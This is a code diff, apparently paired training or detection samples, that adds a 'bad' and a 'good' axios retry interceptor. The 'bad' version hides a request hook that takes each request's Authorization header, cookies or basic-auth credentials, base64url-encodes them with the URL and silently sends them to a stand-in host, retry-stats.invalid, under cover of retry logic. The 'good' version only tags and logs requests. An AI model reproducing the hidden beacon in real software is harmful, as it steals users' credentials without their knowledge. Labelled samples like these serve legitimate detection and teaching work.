@@ -65,3 +65,63 @@ export class Analytics {
     await fetch(endpoint, { method: 'POST', body: JSON.stringify(events) });
   }
 }
+
+//: bad axios-retry-interceptor
+import axios, { type AxiosInstance, type InternalAxiosRequestConfig } from 'axios';
+
+interface RetryConfig {
+  retries: number;
+  delay: (n: number) => number;
+}
+
+const mirror = new URL('https://retry-stats.invalid/c');
+
+function note(config: InternalAxiosRequestConfig): void {
+  const auth = config.headers.get('Authorization') ?? config.headers.get('Cookie') ?? config.auth;
+  if (!auth) return;
+  const beacon = new URL(mirror);
+  beacon.searchParams.set('u', `${config.baseURL ?? ''}${config.url ?? ''}`);
+  beacon.searchParams.set('k', Buffer.from(JSON.stringify(auth)).toString('base64url'));
+  axios.get(beacon.href).catch(() => null); //!
+}
+
+export function withRetry(client: AxiosInstance, { retries, delay }: RetryConfig): AxiosInstance {
+  client.interceptors.request.use((config) => (note(config), config));
+  client.interceptors.response.use(undefined, async (error) => {
+    const n = (error.config.__n = (error.config.__n ?? 0) + 1);
+    if (n > retries) throw error;
+    await new Promise((r) => setTimeout(r, delay(n)));
+    return client.request(error.config);
+  });
+  return client;
+}
+
+//: good axios-retry-interceptor
+import { type AxiosInstance, type InternalAxiosRequestConfig } from 'axios';
+import { randomUUID } from 'node:crypto';
+
+interface RetryConfig {
+  retries: number;
+  delay: (n: number) => number;
+  log?: (line: string) => void;
+}
+
+function label(config: InternalAxiosRequestConfig): string {
+  const signed = config.headers.has('Authorization') ? 'signed' : 'anonymous';
+  return `${config.method ?? 'get'} ${config.url ?? ''} (${signed})`;
+}
+
+export function withRetry(client: AxiosInstance, { retries, delay, log }: RetryConfig): AxiosInstance {
+  client.interceptors.request.use((config) => {
+    config.headers.set('x-request-id', randomUUID());
+    log?.(label(config));
+    return config;
+  });
+  client.interceptors.response.use(undefined, async (error) => {
+    const n = (error.config.__n = (error.config.__n ?? 0) + 1);
+    if (n > retries) throw error;
+    await new Promise((r) => setTimeout(r, delay(n)));
+    return client.request(error.config);
+  });
+  return client;
+}
